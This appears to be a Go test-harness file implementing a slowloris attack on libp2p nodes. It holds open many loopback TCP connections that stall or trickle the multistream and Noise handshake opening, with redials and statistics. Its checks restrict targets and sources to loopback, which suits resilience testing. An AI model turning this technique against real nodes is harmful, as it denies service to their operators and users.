package attack

import (
	"context"
	"crypto/ecdh"
	"crypto/rand"
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"os"
	"sync"
	"sync/atomic"
	"time"

	"github.com/p2pnet/p2pnet/multistream"
	"github.com/p2pnet/p2pnet/sec/noise"
)

// DefaultTrickleInterval is the pause between two bytes of a Trickle
// connection unless told otherwise: the classic slowloris's byte per
// second.
const DefaultTrickleInterval = time.Second

// SlowlorisKind says what each connection of a Slowloris sends.
type SlowlorisKind int

const (
	// Silent connections send nothing.
	Silent SlowlorisKind = iota
	// Trickle connections send the valid opening of a libp2p connection
	// secured with Noise — multistream-select's header, the /noise
	// proposal and the first Noise handshake message (a fresh X25519
	// key), 62 bytes in all — one byte per Interval, then nothing.
	Trickle
	// HeaderOnly connections send multistream-select's header, then
	// nothing.
	HeaderOnly
)

var slowlorisKindNames = [...]string{Silent: "silent", Trickle: "trickle", HeaderOnly: "header-only"}

func (k SlowlorisKind) String() string {
	if k >= 0 && int(k) < len(slowlorisKindNames) {
		return slowlorisKindNames[k]
	}
	return fmt.Sprintf("SlowlorisKind(%d)", int(k))
}

// SlowlorisConfig says where a Slowloris comes from, what its
// connections send and for how long.
type SlowlorisConfig struct {
	// Target is the victim's TCP address, on loopback.
	Target netip.AddrPort
	// Sources lists the address each connection comes from, one entry
	// per connection: an address listed twice gives two connections from
	// it (see LoopbackSources). They must be loopback addresses.
	Sources []netip.Addr
	// Kind is what every connection sends.
	Kind SlowlorisKind
	// Interval is the pause between two bytes of a Trickle connection.
	// Default: DefaultTrickleInterval.
	Interval time.Duration
	// Redial, when positive, makes a connection that the victim closes
	// (or that fails to connect) open again after that pause, as a real
	// attacker's would, until the attack ends. By default a closed
	// connection stays closed.
	Redial time.Duration
	// Duration, when positive, ends the attack after that long.
	Duration time.Duration
}

// SlowlorisStats counts what a Slowloris did and what the victim did to
// it.
type SlowlorisStats struct {
	// Attempts is the number of connections the attack tried to open,
	// the redials included.
	Attempts int64
	// Conns is the number of connections established.
	Conns int64
	// DialErrors is the number of connections that failed to connect.
	// Over loopback, a victim that refuses a connection with a reset as
	// soon as it accepts it may make the connect itself fail.
	DialErrors int64
	// Open is the number of connections open now.
	Open int64
	// Lost is the number of connections that the victim closed before
	// the attack ended.
	Lost int64
	// Sent is the number of bytes sent, over all connections.
	Sent int64
	// Received is the number of bytes the victim sent back, over all
	// connections.
	Received int64
}

// Slowloris is a slowloris attack on a TCP listener: connections that
// each take a handshake slot of the victim and never finish their
// handshake, silent, trickling or stalled after multistream-select's
// header. Each connection has a goroutine of its own; it closes the
// connection when the attack ends.
type Slowloris struct {
	cfg    SlowlorisConfig
	ctx    context.Context // ends with the attack
	cancel context.CancelFunc
	done   chan struct{} // closed once the attack has ended
	wg     sync.WaitGroup

	attempts, conns, dialErrors, open, lost, sent, received atomic.Int64

	mu      sync.Mutex    // guards changed
	changed chan struct{} // closed and replaced whenever a count changes
}

// LoopbackSources returns the source list of addrs addresses from first
// on (first, first+1, …), each perAddr times: LoopbackSources(127.0.0.2,
// 8, 8) gives 64 connections from 127.0.0.2 to 127.0.0.9.
func LoopbackSources(first netip.Addr, addrs, perAddr int) []netip.Addr {
	out := make([]netip.Addr, 0, addrs*perAddr)
	a := first
	for range addrs {
		for range perAddr {
			out = append(out, a)
		}
		a = a.Next()
	}
	return out
}

// StartSlowloris starts the attack: one goroutine per entry of
// cfg.Sources connects to the target and does what cfg.Kind says. It
// returns at once; WaitFor tells when the connections are open. The
// attack ends when ctx ends, after cfg.Duration, or on Close, which must
// be called in any case.
func StartSlowloris(ctx context.Context, cfg SlowlorisConfig) (*Slowloris, error) {
	if !cfg.Target.Addr().IsLoopback() || cfg.Target.Port() == 0 {
		return nil, fmt.Errorf("%w: target %s is not a loopback address and port", ErrInvalidFlood, cfg.Target)
	}
	if len(cfg.Sources) == 0 {
		return nil, fmt.Errorf("%w: no sources", ErrInvalidFlood)
	}
	for _, s := range cfg.Sources {
		if !s.IsLoopback() {
			return nil, fmt.Errorf("%w: source %s is not a loopback address", ErrInvalidFlood, s)
		}
	}
	if cfg.Kind < Silent || cfg.Kind > HeaderOnly {
		return nil, fmt.Errorf("%w: kind %v", ErrInvalidFlood, cfg.Kind)
	}
	if cfg.Interval <= 0 {
		cfg.Interval = DefaultTrickleInterval
	}
	a := &Slowloris{cfg: cfg, done: make(chan struct{}), changed: make(chan struct{})}
	if cfg.Duration > 0 {
		a.ctx, a.cancel = context.WithTimeout(ctx, cfg.Duration)
	} else {
		a.ctx, a.cancel = context.WithCancel(ctx)
	}
	for _, src := range cfg.Sources {
		a.wg.Go(func() { a.run(src) })
	}
	go func() {
		a.wg.Wait()
		a.cancel()
		close(a.done)
	}()
	return a, nil
}

// run keeps one connection from src open, redialing if told to, until
// the attack ends.
func (a *Slowloris) run(src netip.Addr) {
	d := net.Dialer{LocalAddr: net.TCPAddrFromAddrPort(netip.AddrPortFrom(src, 0))}
	for {
		a.count(&a.attempts, 1)
		c, err := d.DialContext(a.ctx, "tcp", a.cfg.Target.String())
		if err != nil {
			if a.ctx.Err() != nil {
				a.count(&a.attempts, -1) // cut short by the end: not an attempt
				return
			}
			a.count(&a.dialErrors, 1)
		} else {
			a.count(&a.conns, 1)
			a.count(&a.open, 1)
			a.hold(c)
			a.count(&a.open, -1)
		}
		if a.cfg.Redial <= 0 {
			return
		}
		t := time.NewTimer(a.cfg.Redial)
		select {
		case <-t.C:
		case <-a.ctx.Done():
			t.Stop()
			return
		}
	}
}

// hold sends on c what the attack's kind says and reads what comes back
// until the victim closes c or the attack ends.
func (a *Slowloris) hold(c net.Conn) {
	stop := context.AfterFunc(a.ctx, func() { c.Close() })
	defer stop()
	defer c.Close()
	var msg []byte
	switch a.cfg.Kind {
	case Trickle:
		msg = noiseOpening()
	case HeaderOnly:
		msg = multistreamMessage(nil, multistream.ProtocolID)
	}
	sent := 0
	if a.cfg.Kind == HeaderOnly {
		n, err := c.Write(msg)
		a.count(&a.sent, int64(n))
		if err != nil {
			a.lose()
			return
		}
		sent = n
	}
	next := time.Now() // when the next byte of a trickle goes
	buf := make([]byte, 512)
	for {
		if sent < len(msg) {
			if !time.Now().Before(next) {
				if _, err := c.Write(msg[sent : sent+1]); err != nil {
					a.lose()
					return
				}
				sent++
				a.count(&a.sent, 1)
				next = next.Add(a.cfg.Interval)
				continue
			}
			c.SetReadDeadline(next)
		} else {
			c.SetReadDeadline(time.Time{})
		}
		n, err := c.Read(buf)
		if n > 0 {
			a.count(&a.received, int64(n))
		}
		if err == nil || errors.Is(err, os.ErrDeadlineExceeded) {
			continue
		}
		a.lose()
		return
	}
}

// lose counts a connection the victim closed, unless the attack ended.
func (a *Slowloris) lose() {
	if a.ctx.Err() == nil {
		a.count(&a.lost, 1)
	}
}

// count adds delta to n and wakes the callers of WaitFor.
func (a *Slowloris) count(n *atomic.Int64, delta int64) {
	n.Add(delta)
	a.mu.Lock()
	close(a.changed)
	a.changed = make(chan struct{})
	a.mu.Unlock()
}

// multistreamMessage appends msg as multistream-select sends it: a
// varint length, the message and a newline.
func multistreamMessage(b []byte, msg string) []byte {
	b = binary.AppendUvarint(b, uint64(len(msg)+1))
	b = append(b, msg...)
	return append(b, '\n')
}

// noiseOpening returns what a libp2p dialer sends first over Noise:
// multistream-select's header, the /noise proposal and the first message
// of the XX handshake (the ephemeral key, with an empty payload), framed
// with its 2-byte length.
func noiseOpening() []byte {
	b := multistreamMessage(nil, multistream.ProtocolID)
	b = multistreamMessage(b, string(noise.ID))
	key, err := ecdh.X25519().GenerateKey(rand.Reader)
	if err != nil {
		panic(fmt.Sprintf("attack: X25519 key: %v", err)) // crypto/rand does not fail
	}
	e := key.PublicKey().Bytes()
	b = binary.BigEndian.AppendUint16(b, uint16(len(e)))
	return append(b, e...)
}

// Stats returns what the attack has done so far.
func (a *Slowloris) Stats() SlowlorisStats {
	return SlowlorisStats{
		Attempts:   a.attempts.Load(),
		Conns:      a.conns.Load(),
		DialErrors: a.dialErrors.Load(),
		Open:       a.open.Load(),
		Lost:       a.lost.Load(),
		Sent:       a.sent.Load(),
		Received:   a.received.Load(),
	}
}

// WaitFor waits until cond holds for the attack's counts, which it
// checks at once and after every change, or until ctx ends.
func (a *Slowloris) WaitFor(ctx context.Context, cond func(SlowlorisStats) bool) error {
	for {
		a.mu.Lock()
		changed := a.changed
		a.mu.Unlock()
		if st := a.Stats(); cond(st) {
			return nil
		}
		select {
		case <-changed:
		case <-ctx.Done():
			return fmt.Errorf("attack: waiting for the slowloris (%+v): %w", a.Stats(), ctx.Err())
		}
	}
}

// Done is closed once the attack has ended and every connection of it is
// closed.
func (a *Slowloris) Done() <-chan struct{} { return a.done }

// Close ends the attack: it closes every connection and returns once the
// attack's goroutines have ended.
func (a *Slowloris) Close() error {
	a.cancel()
	<-a.done
	return nil
}
